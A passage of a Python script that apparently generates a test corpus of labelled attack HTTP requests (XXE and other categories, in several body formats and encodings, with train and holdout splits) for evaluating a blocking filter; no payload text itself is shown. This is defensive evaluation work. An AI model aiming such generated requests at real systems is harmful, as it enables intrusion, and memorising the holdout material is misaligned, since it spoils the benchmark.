            accept, body, binary = "application/grpc-web+proto", frame, True
        headers = self.headers_for(client, slot["path"], ctype, accept, "cors", custom)
        return self.finish("POST", slot["path"], headers, body, binary=binary)


def build_body(b, cat, pl, p, enc, slot):
    """The request for payload p in body slot `slot` with encoding enc, or None when that
    combination does not fit."""
    if cat == "xxe":
        value, mode = xxe_document(p, slot["xml"]), "plain"
    elif isinstance(p.text, dict):
        value, mode = p.text, "uescape" if enc == "unicode-escape" else "plain"
    else:
        r = apply_encoding(cat, enc, p, pl, b.rng)
        if r is None:
            return None
        value, mode = r
    if pl == "text-body":
        return b.text_body(slot, value, mode)
    if pl == "ndjson":
        return b.ndjson(slot, value, mode)
    if pl == "graphql":
        return b.graphql(slot, value, mode)
    return b.protobuf(slot, value, mode)


def generate_bodies(seed=SEED, first_numbers=None):
    """The requests of the body placements; ids go on from first_numbers[category] (the number
    of that category's requests before them)."""
    rng = random.Random(seed * 10007 + BODY_SEED_SALT)
    b = BodyBuilder(rng, Clients(seed), Apps(seed))
    first_numbers = first_numbers or {}
    out = []
    by_name = {c[0]: c for c in CATEGORIES}
    for cat, targets in BODY_TARGETS.items():
        _, payloads, _, _, soft = by_name[cat]
        groups = {p.key: f"{cat}-{i:03d}" for i, p in enumerate(payloads)}  # as generate()
        splits = split_of(cat, payloads)
        usage = {p.key: 0 for p in payloads}
        combo, enc_use = {}, {}
        n = first_numbers.get(cat, 0)
        for pl, count in targets.items():
            slots = [s for s in BODY_SLOTS[pl] if cat in s["fits"]]
            encs = body_encodings(cat, pl)
            elig = [p for p in payloads if body_payload_ok(cat, p, pl) and
                    any(body_slot_ok(cat, s, p, soft) for s in slots)]
            assert elig, (cat, pl)
            picks = pick_requests(
                rng, cat, pl, count, elig, slots, encs,
                fits=lambda s, p: body_slot_ok(cat, s, p, soft),
                exact=lambda s, p: s["ctx"] is not None and s["ctx"] == p.ctx,
                make=lambda p, enc, slot: build_body(b, cat, pl, p, enc, slot),
                usage=usage, combo=combo, enc_use=enc_use)
            for p, enc, req in picks:
                label = p.enc if enc == "plain" and p.enc else enc
                n += 1
                rec = {"id": f"atk-{cat}-{n:04d}", "kind": "attack"}
                rec.update(req)
                rec.update({"expect": "block", "category": cat, "placement": pl,
                            "encoding": label, "split": splits[p.key], "group": groups[p.key]})
                out.append(rec)
    return out


def main():
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    p.add_argument("--out", default=os.path.join(HERE, "attacks.jsonl"))
    p.add_argument("--seed", type=int, default=SEED, help=f"random seed (default {SEED})")
    args = p.parse_args()
    reqs = generate(args.seed)
    numbers = {}
    for r in reqs:
        numbers[r["category"]] = numbers.get(r["category"], 0) + 1
    reqs += generate_bodies(args.seed, numbers)
    with open(args.out, "w", encoding="utf-8", newline="\n") as f:
        for r in reqs:
            f.write(json.dumps(r, ensure_ascii=False, separators=(", ", ": ")) + "\n")
    holdout = sum(r["split"] == "holdout" for r in reqs)
    print(f"{args.out}: {len(reqs)} requests, {holdout} holdout "
          f"({100 * holdout / len(reqs):.0f} %)", file=sys.stderr)


if __name__ == "__main__":
    main()
